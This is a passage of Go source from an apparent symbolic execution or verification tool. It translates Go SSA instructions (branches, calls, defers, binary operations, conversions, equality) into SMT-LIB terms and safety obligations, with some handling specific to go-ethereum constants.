		// *big.Int constants of go-ethereum (var X = big.NewInt(k); read from the pinned go-ethereum source)
		e.trusted["go-ethereum *big.Int constants (common.Big0..Big256, params.*Difficulty*) have their source values"]++
		v = Val{K: kTerm, Typ: et, Sort: s, T: fmt.Sprintf("(some_%s %d)", s, k)}
		name = v.T
	}
	// package-level error sentinels and pointers created by constructors are non-nil
	if strings.HasPrefix(s, "Opt_") {
		e.D.axioms = appendUniq(e.D.axioms, tNot(tEq(name, "none_"+s)))
	}
	if s == sIface && (strings.HasPrefix(g.Name(), "Err") || strings.HasPrefix(g.Name(), "err")) {
		e.D.axioms = appendUniq(e.D.axioms, tNot(tEq(name, "nilI")))
		e.nonNil[name] = true
	}
	// one stable cell per global per state
	for id, cv := range st.cells {
		if cv.K == kTerm && cv.T == name && id < 0 {
			return Val{K: kPtr, Typ: g.Type(), Ptr: &Pointer{Cell: id, RO: true}}
		}
	}
	e.cellN++
	id := -e.cellN
	st.cells[id] = v
	return Val{K: kPtr, Typ: g.Type(), Ptr: &Pointer{Cell: id, RO: true}}
}

// globalInit finds a constant initial value of a package-level variable (string / []byte literals)
// in the package initialiser. Globals are assumed immutable after init (listed assumption).
func (e *Env) globalInit(st *State, g *ssa.Global) (Val, bool) {
	init := g.Pkg.Func("init")
	if init == nil {
		return Val{}, false
	}
	var found ssa.Value
	n := 0
	for _, b := range init.Blocks {
		for _, ins := range b.Instrs {
			if s, ok := ins.(*ssa.Store); ok && s.Addr == g {
				found = s.Val
				n++
			}
		}
	}
	if n != 1 {
		return Val{}, false
	}
	et := g.Type().(*types.Pointer).Elem()
	switch x := found.(type) {
	case *ssa.Call:
		// var X = big.NewInt(k): a pointer to the mathematical integer k
		if f := x.Call.StaticCallee(); f != nil && f.String() == "math/big.NewInt" && len(x.Call.Args) == 1 {
			if c, ok := x.Call.Args[0].(*ssa.Const); ok && c.Value != nil {
				s := e.sortOfT(et)
				return Val{K: kTerm, Typ: et, Sort: s, T: fmt.Sprintf("(some_%s %s)", s, intLit(c.Int64()))}, true
			}
		}
	case *ssa.Const:
		if e.sortOfT(et) == sStr || strings.HasPrefix(e.sortOfT(et), "(_ BitVec") || e.sortOfT(et) == sBool {
			return e.constVal(st, x), true
		}
	case *ssa.Convert:
		if c, ok := x.X.(*ssa.Const); ok && e.sortOfT(et) == sStr && c.Value != nil {
			v := e.constVal(st, c)
			v.Typ = et
			return v, true
		}
	case *ssa.Slice:
		// []byte{c0, c1, ...}: a fresh array filled with constants, then sliced
		al, ok := x.X.(*ssa.Alloc)
		if !ok || x.Low != nil || x.High != nil || e.sortOfT(et) != sStr {
			break
		}
		at, ok := al.Type().(*types.Pointer).Elem().Underlying().(*types.Array)
		if !ok || at.Len() > 64 {
			break
		}
		buf := make([]byte, at.Len())
		okAll := true
		for _, b := range init.Blocks {
			for _, ins := range b.Instrs {
				s, ok := ins.(*ssa.Store)
				if !ok {
					continue
				}
				ia, ok := s.Addr.(*ssa.IndexAddr)
				if !ok || ia.X != al {
					continue
				}
				ic, ok1 := ia.Index.(*ssa.Const)
				vc, ok2 := s.Val.(*ssa.Const)
				if !ok1 || !ok2 || ic.Value == nil || vc.Value == nil {
					okAll = false
					continue
				}
				buf[ic.Int64()] = byte(vc.Uint64())
			}
		}
		if okAll {
			return Val{K: kTerm, Typ: et, Sort: sStr, T: e.D.strLit(string(buf)), Segs: litSegs(string(buf))}, true
		}
	}
	return Val{}, false
}

// rootSymbol: the innermost constant a selector/select term is built from ("" if not of that shape).
func rootSymbol(t string) string {
	for strings.HasPrefix(t, "(") {
		parts := sexprSplit(t[1 : len(t)-1])
		if len(parts) < 2 {
			return ""
		}
		if parts[0] == "select" || parts[0] == "ite" {
			t = parts[1]
			continue
		}
		t = parts[len(parts)-1]
		if len(parts) > 2 && !strings.HasPrefix(parts[0], "S_") && !strings.HasPrefix(parts[0], "val_") && !strings.HasPrefix(parts[0], "arr_") {
			return ""
		}
		if len(parts) > 2 {
			t = parts[1]
		}
	}
	return t
}

func appendUniq(xs []string, x string) []string {
	for _, y := range xs {
		if y == x {
			return xs
		}
	}
	return append(xs, x)
}

// execFunc symbolically executes fn on args; returns one Out per feasible path that returns normally
// (paths that panic are returned with st.panics set).
func (e *Env) execFunc(st *State, fn *ssa.Function, args []Val, binds []Val, depth int) []Out {
	if fn.Blocks == nil {
		e.fail("execFunc: %s has no body", fn)
		return nil
	}
	fr := &Frame{fn: fn, regs: map[ssa.Value]Val{}, inLoop: map[*ssa.BasicBlock]bool{}, depth: depth}
	for i, p := range fn.Params {
		if i < len(args) {
			fr.regs[p] = args[i]
		} else {
			fr.regs[p] = e.symbolic(st, p.Type(), p.Name())
		}
	}
	for i, fv := range fn.FreeVars {
		if i < len(binds) {
			fr.regs[fv] = binds[i]
		} else {
			fr.regs[fv] = e.symbolic(st, fv.Type(), fv.Name())
		}
	}
	return e.enterBlock(fr, st, fn.Blocks[0], nil)
}

// enterBlock performs block-entry processing (loop handling, phis) and runs the block.
func (e *Env) enterBlock(fr *Frame, st *State, b *ssa.BasicBlock, prev *ssa.BasicBlock) []Out {
	if e.err != nil || st.dead {
		return nil
	}
	e.paths++
	if e.paths > e.maxPaths {
		e.fail("path explosion in %s (> %d block visits)", e.curName, e.maxPaths)
		return nil
	}
	if li := e.loopInfo(fr.fn).headers[b]; li != nil {
		return e.enterLoop(fr, st, b, prev, li)
	}
	if prev != nil && fr.depth == 0 {
		// leaving a loop through its header's exit edge: the loop ran to completion on this path
		if pl := e.loopInfo(fr.fn).headers[prev]; pl != nil && !pl.blocks[b] {
			st.loopsDone = append(append([]int(nil), st.loopsDone...), pl.ordinal)
		}
	}
	e.assignPhis(fr, st, b, prev)
	return e.runFrom(fr, st, b, 0, prev)
}

func (e *Env) runFrom(fr *Frame, st *State, b *ssa.BasicBlock, idx int, prev *ssa.BasicBlock) []Out {
	if e.err != nil || st.dead {
		return nil
	}
	if fr.depth == 0 {
		e.curFrame = fr
	}
	for i := idx; i < len(b.Instrs); i++ {
		ins := b.Instrs[i]
		if p := ins.Pos(); p.IsValid() {
			e.curPos = p
		}
		switch x := ins.(type) {
		case *ssa.Phi, *ssa.DebugRef:
			continue
		case *ssa.If:
			c := e.eval(st, fr, x.Cond)
			ct := e.term(st, c)
			var outs []Out
			if ct != "false" {
				s2 := st.clone()
				s2.assume(ct)
				if !s2.dead {
					outs = append(outs, e.enterBlock(fr.clone(), s2, b.Succs[0], b)...)
				}
			}
			if ct != "true" {
				st.assume(tNot(ct))
				if !st.dead {
					outs = append(outs, e.enterBlock(fr, st, b.Succs[1], b)...)
				}
			}
			return outs
		case *ssa.Jump:
			return e.enterBlock(fr, st, b.Succs[0], b)
		case *ssa.Return:
			return e.doReturn(fr, st, x)
		case *ssa.Panic:
			v := e.eval(st, fr, x.X)
			_ = v
			st.panics = "explicit panic at " + e.pos(x.Pos())
			if e.nopanic && e.specMode == 0 {
				e.oblige(st, "nopanic", fmt.Sprintf("panic#%d(%s)@%s", panicOrdinal(x), fr.fn.Name(), e.pos(x.Pos())), "false", "explicit panic reachable", x.Pos())
			}
			return []Out{{st: st}}
		case *ssa.RunDefers:
			continue
		case *ssa.Defer:
			// deferred calls: only dropped kinds are accepted
			if e.isDroppedCall(&x.Call) || e.deferDroppable(&x.Call) {
				e.dropped["defer "+callName(&x.Call)]++
				continue
			}
			e.fail("defer of a call with modelled effects: %s at %s", callName(&x.Call), e.pos(x.Pos()))
			return nil
		case *ssa.Go, *ssa.Select, *ssa.Send:
			e.fail("outside subset: %T at %s", ins, e.pos(ins.Pos()))
			return nil
		case ssa.CallInstruction:
			call := x.Common()
			outs := e.call(st, fr, x, call)
			if e.err != nil {
				return nil
			}
			var res []Out
			for k, o := range outs {
				if o.st.panics != "" {
					res = append(res, o)
					continue
				}
				f2 := fr
				if k < len(outs)-1 {
					f2 = fr.clone()
				}
				if v, ok := x.(ssa.Value); ok {
					f2.regs[v] = o.res
				}
				res = append(res, e.runFrom(f2, o.st, b, i+1, prev)...)
			}
			return res
		case *ssa.Store:
			addr := e.eval(st, fr, x.Addr)
			v := e.eval(st, fr, x.Val)
			p := e.asPointer(st, addr, x.Pos())
			e.store(st, p, v)
		case ssa.Value:
			fr.regs[x] = e.evalInstr(st, fr, x)
			if e.err != nil {
				return nil
			}
			if st.dead {
				return nil
			}
		case *ssa.MapUpdate:
			e.mapUpdate(st, fr, x)
		default:
			e.fail("unsupported instruction %T at %s", ins, e.pos(ins.Pos()))
			return nil
		}
	}
	return nil
}

// deferDroppable: a deferred closure whose body consists only of dropped (telemetry/logging) calls.
func (e *Env) deferDroppable(c *ssa.CallCommon) bool {
	// a deferred call of a function under a trusted contract that modifies nothing (e.g. closing a local helper
	// object): it cannot affect the results or the modelled state of the enclosing function
	if f := c.StaticCallee(); f != nil {
		if ct := e.Cx.forFunc(f); ct != nil && ct.Trusted && len(ct.Modifies) == 0 && len(ct.Ensures) == 0 {
			return true
		}
	}
	var fn *ssa.Function
	switch v := c.Value.(type) {
	case *ssa.MakeClosure:
		fn, _ = v.Fn.(*ssa.Function)
	case *ssa.Function:
		fn = v
	}
	if fn == nil || fn.Blocks == nil {
		return false
	}
	for _, b := range fn.Blocks {
		for _, ins := range b.Instrs {
			switch x := ins.(type) {
			case ssa.CallInstruction:
				cc := x.Common()
				n := callName(cc)
				if droppedName(n) {
					continue
				}
				// pure getters used to build telemetry labels
				if cc.IsInvoke() {
					switch cc.Method.Name() {
					case "ClientType", "String", "GetLatestHeight":
						continue
					}
				}
				return false
			case *ssa.Store:
				if _, isFree := x.Addr.(*ssa.FreeVar); isFree {
					return false
				}
			case *ssa.Go, *ssa.Send, *ssa.Panic:
				return false
			}
		}
	}
	return true
}

// loopExtents: source extents of the for/range statements of fn in source order (loop N = N-th statement).
func loopExtents(fn *ssa.Function) [][2]token.Pos {
	var out [][2]token.Pos
	syn := fn.Syntax()
	if syn == nil {
		return nil
	}
	ast.Inspect(syn, func(n ast.Node) bool {
		switch s := n.(type) {
		case *ast.FuncLit:
			if n != syn {
				return false
			}
		case *ast.ForStmt:
			out = append(out, [2]token.Pos{s.Pos(), s.End()})
		case *ast.RangeStmt:
			out = append(out, [2]token.Pos{s.Pos(), s.End()})
		}
		return true
	})
	return out
}

// panicOrdinal: 1-based index of an explicit panic among the panics of its function, in source order.
func panicOrdinal(p *ssa.Panic) int {
	fn := p.Parent()
	n := 0
	for _, b := range fn.Blocks {
		for _, ins := range b.Instrs {
			if q, ok := ins.(*ssa.Panic); ok && q.Pos() <= p.Pos() {
				_ = q
				n++
			}
		}
	}
	return n
}

func (e *Env) assignPhis(fr *Frame, st *State, b, prev *ssa.BasicBlock) {
	if prev == nil {
		return
	}
	pi := -1
	for i, p := range b.Preds {
		if p == prev {
			pi = i
			break
		}
	}
	if pi < 0 {
		return
	}
	var phis []*ssa.Phi
	var vals []Val
	for _, ins := range b.Instrs {
		ph, ok := ins.(*ssa.Phi)
		if !ok {
			if _, isDbg := ins.(*ssa.DebugRef); isDbg {
				continue
			}
			break
		}
		phis = append(phis, ph)
		vals = append(vals, e.eval(st, fr, ph.Edges[pi]))
	}
	for i, ph := range phis {
		fr.regs[ph] = vals[i]
	}
}

func (e *Env) doReturn(fr *Frame, st *State, r *ssa.Return) []Out {
	if fr.depth == 0 {
		st.trace = append(st.trace, e.pos(r.Pos()))
		st.retInLoops = nil
		for i, ext := range loopExtents(fr.fn) {
			if r.Pos() >= ext[0] && r.Pos() <= ext[1] {
				st.retInLoops = append(st.retInLoops, i+1)
			}
		}
	}
	switch len(r.Results) {
	case 0:
		return []Out{{st: st, res: Val{K: kUnit}}}
	case 1:
		return []Out{{st: st, res: e.eval(st, fr, r.Results[0])}}
	}
	t := Val{K: kTuple}
	for _, x := range r.Results {
		t.Elems = append(t.Elems, e.eval(st, fr, x))
	}
	return []Out{{st: st, res: t}}
}

func (e *Env) evalInstr(st *State, fr *Frame, ins ssa.Value) Val {
	switch x := ins.(type) {
	case *ssa.Alloc:
		et := x.Type().(*types.Pointer).Elem()
		c := e.newCell(st, e.zero(st, et))
		return Val{K: kPtr, Typ: x.Type(), Ptr: &Pointer{Cell: c}}
	case *ssa.UnOp:
		return e.unop(st, fr, x)
	case *ssa.BinOp:
		a := e.eval(st, fr, x.X)
		b := e.eval(st, fr, x.Y)
		return e.binop(st, x.Op, a, b, x.Type(), x.Pos())
	case *ssa.FieldAddr:
		base := e.eval(st, fr, x.X)
		p := e.asPointer(st, base, x.Pos())
		np := &Pointer{Cell: p.Cell, Path: append(append([]PathEl(nil), p.Path...), PathEl{Field: x.Field}), RO: p.RO}
		return Val{K: kPtr, Typ: x.Type(), Ptr: np}
	case *ssa.Field:
		base := e.eval(st, fr, x.X)
		return e.field(st, base, x.Field)
	case *ssa.IndexAddr:
		base := e.eval(st, fr, x.X)
		idx := e.toBV64(st, e.eval(st, fr, x.Index))
		if base.K == kPtr || (base.K == kTerm && isPtr(base.Typ)) {
			// pointer to array
			p := e.asPointer(st, base, x.Pos())
			cur := e.load(st, p)
			e.safety(st, tApp("bvult", idx, e.lenOf(st, cur)), "index-in-range", x.Pos())
			np := &Pointer{Cell: p.Cell, Path: append(append([]PathEl(nil), p.Path...), PathEl{Field: -1, Idx: idx}), RO: p.RO}
			return Val{K: kPtr, Typ: x.Type(), Ptr: np}
		}
		// slice: element address = temp cell holding a copy of the slice (writes go to the copy's owner if tracked)
		if base.Ptr != nil && base.K == kArr {
			// slice backed by a tracked cell
			e.safety(st, tApp("bvult", idx, e.lenOf(st, base)), "index-in-range", x.Pos())
			np := &Pointer{Cell: base.Ptr.Cell, Path: append(append([]PathEl(nil), base.Ptr.Path...), PathEl{Field: -1, Idx: idx}), RO: base.Ptr.RO}
			return Val{K: kPtr, Typ: x.Type(), Ptr: np}
		}
		e.safety(st, tApp("bvult", idx, e.lenOf(st, base)), "index-in-range", x.Pos())
		c := e.newCell(st, base)
		return Val{K: kPtr, Typ: x.Type(), Ptr: &Pointer{Cell: c, Path: []PathEl{{Field: -1, Idx: idx}}, RO: true}}
	case *ssa.Index:
		base := e.eval(st, fr, x.X)
		idx := e.toBV64(st, e.eval(st, fr, x.Index))
		return e.index(st, base, idx, x.Pos())
	case *ssa.Slice:
		return e.sliceOp(st, fr, x)
	case *ssa.MakeInterface:
		inner := e.eval(st, fr, x.X)
		if inner.Typ == nil {
			inner.Typ = x.X.Type()
		}
		return Val{K: kIface, Typ: x.Type(), Inner: &inner, Sort: sIface}
	case *ssa.ChangeInterface:
		v := e.eval(st, fr, x.X)
		v.Typ = x.Type()
		return v
	case *ssa.ChangeType:
		v := e.eval(st, fr, x.X)
		ns := e.sortOfT(x.Type())
		if v.K == kTerm && v.Sort != ns {
			e.fail("ChangeType between sorts %s -> %s at %s", v.Sort, ns, e.pos(x.Pos()))
		}
		v.Typ = x.Type()
		return v
	case *ssa.Convert:
		return e.convert(st, e.eval(st, fr, x.X), x.Type(), x.Pos())
	case *ssa.TypeAssert:
		return e.typeAssert(st, fr, x)
	case *ssa.Extract:
		t := e.eval(st, fr, x.Tuple)
		if t.K == kTuple && x.Index < len(t.Elems) {
			return t.Elems[x.Index]
		}
		e.fail("extract from non-tuple at %s", e.pos(x.Pos()))
		return Val{K: kUnit}
	case *ssa.MakeClosure:
		fn := x.Fn.(*ssa.Function)
		v := Val{K: kClosure, Typ: x.Type(), Fn: fn}
		for _, b := range x.Bindings {
			v.Bind = append(v.Bind, e.eval(st, fr, b))
		}
		return v
	case *ssa.MakeSlice:
		n := e.toBV64(st, e.eval(st, fr, x.Len))
		t := x.Type()
		if c, _, ok := bvLitVal(n); ok && c <= 16 {
			v := Val{K: kArr, Typ: t, Sort: e.sortOfT(t)}
			for i := uint64(0); i < c; i++ {
				v.Elems = append(v.Elems, e.zero(st, elemType(t)))
			}
			return v
		}
		s := e.sortOfT(t)
		if s == sStr {
			r := e.D.fresh("mkbytes", sStr)
			st.assume(tEq(e.slenBV(st, r), n))
			return e.wrapTerm(t, r)
		}
		r := e.D.fresh("mkslice", s)
		st.assume(tEq(tApp("len_"+s, r), n))
		return e.wrapTerm(t, r)
	case *ssa.MakeMap:
		return e.zero(st, x.Type())
	case *ssa.Lookup:
		return e.lookup(st, fr, x)
	case *ssa.Range:
		return e.rangeStart(st, fr, x)
	case *ssa.Next:
		return e.rangeNext(st, fr, x)
	case *ssa.Phi:
		return fr.regs[x]
	case *ssa.MultiConvert:
		return e.convert(st, e.eval(st, fr, x.X), x.Type(), x.Pos())
	case *ssa.SliceToArrayPointer:
		v := e.eval(st, fr, x.X)
		c := e.newCell(st, v)
		return Val{K: kPtr, Typ: x.Type(), Ptr: &Pointer{Cell: c, RO: true}}
	}
	e.fail("unsupported value instruction %T at %s", ins, e.pos(ins.Pos()))
	return Val{K: kUnit}
}

func isPtr(t types.Type) bool {
	_, ok := t.Underlying().(*types.Pointer)
	return ok
}

func (e *Env) toBV64(st *State, v Val) string {
	t := e.term(st, v)
	b, ok := v.Typ.Underlying().(*types.Basic)
	if !ok {
		return t
	}
	w := intWidth(b)
	if w == 64 {
		return t
	}
	if isSigned(v.Typ) {
		return fmt.Sprintf("((_ sign_extend %d) %s)", 64-w, t)
	}
	return fmt.Sprintf("((_ zero_extend %d) %s)", 64-w, t)
}

func (e *Env) unop(st *State, fr *Frame, x *ssa.UnOp) Val {
	v := e.eval(st, fr, x.X)
	switch x.Op {
	case token.MUL: // load
		p := e.asPointer(st, v, x.Pos())
		r := e.load(st, p)
		if r.Typ == nil {
			r.Typ = x.Type()
		}
		return r
	case token.NOT:
		return termVal(x.Type(), sBool, tNot(e.term(st, v)))
	case token.SUB:
		if isMathInt(x.Type()) {
			return termVal(x.Type(), sInt, tApp("-", e.term(st, v)))
		}
		return termVal(x.Type(), v.Sort, tApp("bvneg", e.term(st, v)))
	case token.XOR:
		return termVal(x.Type(), v.Sort, tApp("bvnot", e.term(st, v)))
	case token.ARROW:
		e.fail("outside subset: channel receive at %s", e.pos(x.Pos()))
	}
	e.fail("unsupported unop %s", x.Op)
	return Val{K: kUnit}
}

func (e *Env) binop(st *State, op token.Token, a, b Val, rt types.Type, pos token.Pos) Val {
	// comparisons
	switch op {
	case token.EQL, token.NEQ:
		r := e.equal(st, a, b)
		if op == token.NEQ {
			r = tNot(r)
		}
		return termVal(rt, sBool, r)
	}
	at, bt := e.term(st, a), e.term(st, b)
	as := e.sortOfT(a.Typ)
	if as == sStr {
		switch op {
		case token.ADD:
			sa, sb := segsOf(a), segsOf(b)
			segs := concatSegs(sa, sb)
			return Val{K: kTerm, Typ: rt, Sort: sStr, T: e.segsTerm(segs), Segs: segs}
		case token.LSS, token.LEQ, token.GTR, token.GEQ:
			f := e.D.uf("str_lt", []string{sStr, sStr}, sBool, at, bt)
			switch op {
			case token.LSS:
				return termVal(rt, sBool, f)
			case token.GTR:
				return termVal(rt, sBool, e.D.uf("str_lt", []string{sStr, sStr}, sBool, bt, at))
			case token.LEQ:
				return termVal(rt, sBool, tNot(e.D.uf("str_lt", []string{sStr, sStr}, sBool, bt, at)))
			default:
				return termVal(rt, sBool, tNot(f))
			}
		}
	}
	if as == sBool {
		switch op {
		case token.AND, token.LAND:
			return termVal(rt, sBool, tAnd(at, bt))
		case token.OR, token.LOR:
			return termVal(rt, sBool, tOr(at, bt))
		}
	}
	if as == sInt {
		switch op {
		case token.QUO:
			// only reachable from specifications (Go has no "/" on big.Int): Euclidean division
			return termVal(rt, sInt, tApp("div", at, bt))
		case token.REM:
			return termVal(rt, sInt, tApp("mod", at, bt))
		case token.ADD:
			return termVal(rt, sInt, tApp("+", at, bt))
		case token.SUB:
			return termVal(rt, sInt, tApp("-", at, bt))
		case token.MUL:
			return termVal(rt, sInt, tApp("*", at, bt))
		case token.LSS:
			return termVal(rt, sBool, tApp("<", at, bt))
		case token.LEQ:
			return termVal(rt, sBool, tApp("<=", at, bt))
		case token.GTR:
			return termVal(rt, sBool, tApp(">", at, bt))
		case token.GEQ:
			return termVal(rt, sBool, tApp(">=", at, bt))
		}
	}
	if strings.HasPrefix(as, "(_ BitVec") {
		signed := isSigned(a.Typ)
		// shifts: amount may have a different width
		if op == token.SHL || op == token.SHR {
			wa := bvWidth(as)
			wb := bvWidth(e.sortOfT(b.Typ))
			if wb < wa {
				bt = fmt.Sprintf("((_ zero_extend %d) %s)", wa-wb, bt)
			} else if wb > wa {
				// large shift amounts saturate
				big := tApp("bvuge", bt, bvLit(uint64(wa), wb))
				bt = tIte(big, bvLit(uint64(wa), wa), fmt.Sprintf("((_ extract %d 0) %s)", wa-1, bt))
			}
			if op == token.SHL {
				return termVal(rt, as, tApp("bvshl", at, bt))
			}
			if signed {
				return termVal(rt, as, tApp("bvashr", at, bt))
			}
			return termVal(rt, as, tApp("bvlshr", at, bt))
		}
		if x, w, ok := bvLitVal(at); ok {
			if y, _, ok2 := bvLitVal(bt); ok2 {
				if r, ok3 := foldBV(op, x, y, w, signed); ok3 {
					if rs := e.sortOfT(rt); rs == sBool {
						if r != 0 {
							return termVal(rt, sBool, "true")
						}
						return termVal(rt, sBool, "false")
					}
					return termVal(rt, as, bvLit(r, w))
				}
			}
		}
		var f string
		switch op {
		case token.ADD:
			f = "bvadd"
		case token.SUB:
			f = "bvsub"
		case token.MUL:
			f = "bvmul"
		case token.QUO:
			e.safety(st, tNot(tEq(bt, bvLit(0, bvWidth(as)))), "div-by-zero", pos)
			f = map[bool]string{true: "bvsdiv", false: "bvudiv"}[signed]
		case token.REM:
			e.safety(st, tNot(tEq(bt, bvLit(0, bvWidth(as)))), "div-by-zero", pos)
			f = map[bool]string{true: "bvsrem", false: "bvurem"}[signed]
		case token.AND:
			f = "bvand"
		case token.OR:
			f = "bvor"
		case token.XOR:
			f = "bvxor"
		case token.AND_NOT:
			return termVal(rt, as, tApp("bvand", at, tApp("bvnot", bt)))
		case token.LSS:
			return termVal(rt, sBool, tApp(map[bool]string{true: "bvslt", false: "bvult"}[signed], at, bt))
		case token.LEQ:
			return termVal(rt, sBool, tApp(map[bool]string{true: "bvsle", false: "bvule"}[signed], at, bt))
		case token.GTR:
			return termVal(rt, sBool, tApp(map[bool]string{true: "bvsgt", false: "bvugt"}[signed], at, bt))
		case token.GEQ:
			return termVal(rt, sBool, tApp(map[bool]string{true: "bvsge", false: "bvuge"}[signed], at, bt))
		}
		if f != "" {
			return termVal(rt, as, tApp(f, at, bt))
		}
	}
	e.fail("unsupported binop %s on %s at %s", op, a.Typ, e.pos(pos))
	return Val{K: kUnit}
}

// foldCmp folds (bvult a b)/(bvule a b) and conjunctions of them on literals.
func foldCmp(c string) string {
	if strings.HasPrefix(c, "(and ") {
		parts := sexprSplit(c[5 : len(c)-1])
		for i := range parts {
			parts[i] = foldCmp(parts[i])
		}
		return tAnd(parts...)
	}
	for _, op := range []string{"bvult", "bvule"} {
		if strings.HasPrefix(c, "("+op+" ") {
			parts := sexprSplit(c[len(op)+2 : len(c)-1])
			if len(parts) == 2 {
				x, _, ok1 := bvLitVal(parts[0])
				y, _, ok2 := bvLitVal(parts[1])
				if ok1 && ok2 {
					if (op == "bvult" && x < y) || (op == "bvule" && x <= y) {
						return "true"
					}
					return "false"
				}
			}
		}
	}
	return c
}

func foldBV(op token.Token, x, y uint64, w int, signed bool) (uint64, bool) {
	mask := ^uint64(0)
	if w < 64 {
		mask = (1 << uint(w)) - 1
	}
	b2u := func(b bool) uint64 {
		if b {
			return 1
		}
		return 0
	}
	sx := func(v uint64) int64 {
		if w < 64 && v&(1<<uint(w-1)) != 0 {
			return int64(v | ^mask)
		}
		return int64(v)
	}
	switch op {
	case token.ADD:
		return (x + y) & mask, true
	case token.SUB:
		return (x - y) & mask, true
	case token.MUL:
		return (x * y) & mask, true
	case token.LSS:
		if signed {
			return b2u(sx(x) < sx(y)), true
		}
		return b2u(x < y), true
	case token.LEQ:
		if signed {
			return b2u(sx(x) <= sx(y)), true
		}
		return b2u(x <= y), true
	case token.GTR:
		if signed {
			return b2u(sx(x) > sx(y)), true
		}
		return b2u(x > y), true
	case token.GEQ:
		if signed {
			return b2u(sx(x) >= sx(y)), true
		}
		return b2u(x >= y), true
	}
	return 0, false
}

func bvWidth(s string) int {
	var w int
	fmt.Sscanf(s, "(_ BitVec %d)", &w)
	return w
}

// equal: Go == on two values.
func (e *Env) equal(st *State, a, b Val) string {
	// interface vs concrete nil etc.
	if a.K == kIface && b.K == kIface {
		if typeKey(a.Inner.Typ) != typeKey(b.Inner.Typ) {
			return "false"
		}
		return e.equal(st, *a.Inner, *b.Inner)
	}
	if a.K == kIface && b.K == kTerm && b.T == "nilI" {
		return "false"
	}
	if b.K == kIface && a.K == kTerm && a.T == "nilI" {
		return "false"
	}
	if a.K == kPtr && b.K == kPtr {
		if a.Ptr.Cell == b.Ptr.Cell && len(a.Ptr.Path) == len(b.Ptr.Path) {
			return "true"
		}
		return "false"
	}
	if a.K == kPtr && b.K == kTerm && strings.HasPrefix(b.T, "none_") {
		if a.Nil != "" {
			return a.Nil
		}
		return "false"
	}
	if b.K == kPtr && a.K == kTerm && strings.HasPrefix(a.T, "none_") {
		if b.Nil != "" {
			return b.Nil
		}
		return "false"
	}
	if a.K == kClosure || b.K == kClosure {
		// func == nil
		return "false"
	}
	// strings with known structure
	if a.Segs != nil && b.Segs != nil {
		if r, ok := e.segsEqual(a.Segs, b.Segs, false); ok {
			return r
		}
	}
	// slice == nil for non-byte slices: length zero approximation flagged
	if a.K == kArr || b.K == kArr {
		other := b
		arr := a
		if b.K == kArr {
			other, arr = a, b
		}
		if other.K == kArr && len(other.Elems) == 0 {
			if len(arr.Elems) == 0 {
				return "true"
			}
			return "false"
		}
	}
	at, bt := e.term(st, a), e.term(st, b)
	if (bt == "nilI" && e.nonNil[at]) || (at == "nilI" && e.nonNil[bt]) {
		return "false"
	}
	sa, sb := e.sortOfT(a.Typ), e.sortOfT(b.Typ)
	if sa != sb && a.Typ != nil && b.Typ != nil {
		// e.g. slice compared with nil constant of same type is same sort; otherwise unsupported
		if strings.HasPrefix(sa, "Slice_") && bt == "nilI" {
			return tEq(tApp("len_"+sa, at), bvLit(0, 64))
		}
		e.fail("equality between sorts %s and %s", sa, sb)
	}
	if strings.HasPrefix(sa, "Slice_") {
		// only nil comparisons are legal Go for slices
		return tEq(tApp("len_"+sa, at), bvLit(0, 64))
	}
	if strings.HasPrefix(sa, "Opt_") && a.K == kTerm && b.K == kTerm && e.specMode == 0 {
		// Go compares pointers by identity, the model keeps pointees by value. Two pointer values that
		// stem from different roots (different parameters / call results) denote different allocations:
		// they are equal only if both are nil. Same root: structural equality is the best the model can say.
		ra, rb := rootSymbol(at), rootSymbol(bt)
		if ra != "" && rb != "" && ra != rb && !strings.HasPrefix(at, "none_") && !strings.HasPrefix(bt, "none_") {
			e.notes["pointer comparison between values of different provenance: equal only if both nil"]++
			return tAnd(tEq(at, "none_"+sa), tEq(bt, "none_"+sa))
		}
	}
	return tEq(at, bt)
}

func (e *Env) convert(st *State, v Val, to types.Type, pos token.Pos) Val {
	from := v.Typ
	fs, ts := e.sortOfT(from), e.sortOfT(to)
	if fs == sStr && ts == sStr {
		r := v
		r.Typ = to
		r.K = kTerm
		if v.K == kArr {
			r.T = e.arrTerm(st, v)
			r.Elems = nil
			r.Sort = sStr
			if lit, ok := e.litContent(r.T); ok {
				r.Segs = litSegs(lit)
			}
			return r
		}
		_, toString := to.Underlying().(*types.Basic)
		_, fromString := from.Underlying().(*types.Basic)
		if toString && !fromString && v.Segs == nil {
			// string(bytes): nil becomes ""
			if v.T == "nilStr" {
				r.T = "emptyStr"
			} else {
				e.D.declFun("b2s", "(define-fun b2s ((x Str)) Str (ite (= x nilStr) emptyStr x))")
				r.T = tApp("b2s", v.T)
			}
		}
		return r
	}
	if strings.HasPrefix(fs, "(_ BitVec") && strings.HasPrefix(ts, "(_ BitVec") {
		wf, wt := bvWidth(fs), bvWidth(ts)
		t := e.term(st, v)
		if x, _, ok := bvLitVal(t); ok {
			if isSigned(from) && wf < 64 && x&(1<<uint(wf-1)) != 0 {
				x |= ^uint64(0) << uint(wf)
			}
			return termVal(to, ts, bvLit(x, wt))
		}
		switch {
		case wf == wt:
			return termVal(to, ts, t)
		case wf > wt:
			return termVal(to, ts, fmt.Sprintf("((_ extract %d 0) %s)", wt-1, t))
		default:
			if isSigned(from) {
				return termVal(to, ts, fmt.Sprintf("((_ sign_extend %d) %s)", wt-wf, t))
			}
			return termVal(to, ts, fmt.Sprintf("((_ zero_extend %d) %s)", wt-wf, t))
		}
	}
	if strings.HasPrefix(fs, "(_ BitVec") && ts == sStr {
		// string(rune)
		return e.wrapTerm(to, e.D.uf("rune2str", []string{fs}, sStr, e.term(st, v)))
	}
	if fs == ts {
		r := v
		r.Typ = to
		return r
	}
	// float conversions etc: opaque
	e.notes[fmt.Sprintf("opaque conversion %s -> %s", fs, ts)]++
	return e.wrapTerm(to, e.D.uf("conv_"+mangleSort(fs)+"_"+mangleSort(ts), []string{fs}, ts, e.term(st, v)))
}

func (e *Env) litContent(t string) (string, bool) {
	if t == "emptyStr" {
		return "", true
	}
	for c, n := range e.D.lits {
		if n == t {
			return c, true
		}
	}
	return "", false
}

func (e *Env) sliceOp(st *State, fr *Frame, x *ssa.Slice) Val {
	base := e.eval(st, fr, x.X)
	var lo, hi string
	if x.Low != nil {
		lo = e.toBV64(st, e.eval(st, fr, x.Low))
	}
	if x.High != nil {
		hi = e.toBV64(st, e.eval(st, fr, x.High))
	}
	// pointer to array: slice of the array
	if base.K == kPtr || (base.K == kTerm && isPtr(base.Typ)) {
		p := e.asPointer(st, base, x.Pos())
		arr := e.load(st, p)
		r := e.sliceVal(st, arr, lo, hi, x.Type(), x.Pos())
		if r.K == kArr && lo == "" && hi == "" {
